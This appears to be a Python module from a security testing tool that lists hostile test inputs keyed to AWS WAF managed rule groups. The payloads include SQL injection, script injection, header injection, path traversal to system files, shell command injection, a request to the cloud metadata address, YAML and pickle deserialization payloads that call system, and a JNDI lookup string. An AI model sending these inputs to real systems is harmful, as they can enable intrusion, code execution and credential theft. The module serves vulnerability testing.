"""What attackers send: one text for each class that AWS WAF's managed rule groups know, each with a mark that is told again.

https://docs.aws.amazon.com/waf/latest/developerguide/aws-managed-rule-groups-list.html
"""

from dataclasses import dataclass

from lambdatest.results import QUOTED
from lambdatest.vocabulary import Vocabulary

CORE = "core rule set"
BAD_INPUTS = "known bad inputs rule group"
SQL = "SQL database rule group"
POSIX = "POSIX operating system rule group"

MARKUP = "<script>lt7f3</script>"
MARKUP_ATTRIBUTE = "lt7f3"
MARKUP_TEXT = f"{MARKUP}\" {MARKUP_ATTRIBUTE}=\"' {MARKUP_ATTRIBUTE}='"
"""`MARKUP`, and what is an attribute of its own where the quotes around it are not escaped."""
INJECTED_LINE = "X-Injected: lt7f3"
INJECTED_HEADER = f"evil\r\n{INJECTED_LINE}"
QUOTE = f"{QUOTED}' OR '1'='1"
ATTRIBUTE = "lt7f3{%s.__class__}"
"""What a text that is formatted with something shows of it."""
CANARY_HOST = "canary-host.example"
METADATA = "169.254.169.254"


@dataclass(frozen=True, slots=True)
class Payload:
    """A hostile *text*; *sinks* are what a code must do with text for it to matter, *group* the rule group that stops it, if any does.

    One with *only* is sent to such code alone; the others to all, and first to such code.  *known* is what the group looks for, where
    that is not all of the text.
    """

    text: str
    sinks: frozenset[str] = frozenset()
    group: str | None = None
    only: bool = False
    known: str | None = None


def _payload(text: str, *sinks: str, group: str | None = None, only: bool = False, known: str | None = None) -> Payload:
    return Payload(text, frozenset(sinks), group, only, known)


PAYLOADS = (
    _payload(QUOTE, "sql", "expression", group=SQL),
    _payload(INJECTED_HEADER, "header"),
    _payload(MARKUP_TEXT, "markup", group=CORE, known=MARKUP),
    _payload("../../../etc/lt7f3", "file", group=CORE),
    _payload("canary; echo $HOME", "command", group=POSIX),
    _payload("$(canary;id)", "command"),
    _payload(f"https://{CANARY_HOST}/", "network", "header"),
    _payload("%00"),
    _payload("null"),
    _payload(f"http://{METADATA}/latest/meta-data/", "network", group=CORE, only=True),
    _payload("../" * 12 + "proc/self/environ", "file", group=CORE, only=True),
    _payload("!!python/object/apply:os.system ['canary']", "yaml", only=True),
    _payload("Y29zCnN5c3RlbQooUydjYW5hcnknCnRSLg==", "pickle", only=True),  # cos\nsystem\n(S'canary'\ntR.
    _payload(f"${{jndi:ldap://{CANARY_HOST}/a}}", "template", group=BAD_INPUTS, only=True),
)
MOST_TEMPLATES = 3
PLAIN = tuple(payload.text for payload in PAYLOADS if not payload.only)
"""What is sent to any code."""


def texts(vocabulary: Vocabulary) -> tuple[str, ...]:
    """The hostile texts for a code, those first that can do harm in it."""
    explosive = tuple(dict.fromkeys(text for _, text in vocabulary.explosive))
    harmful = [payload.text for payload in PAYLOADS if payload.sinks & vocabulary.sinks]
    templates = [ATTRIBUTE % name for name in sorted(vocabulary.formatted)[:MOST_TEMPLATES]]
    return tuple(dict.fromkeys((*explosive, *templates, *harmful, *PLAIN)))
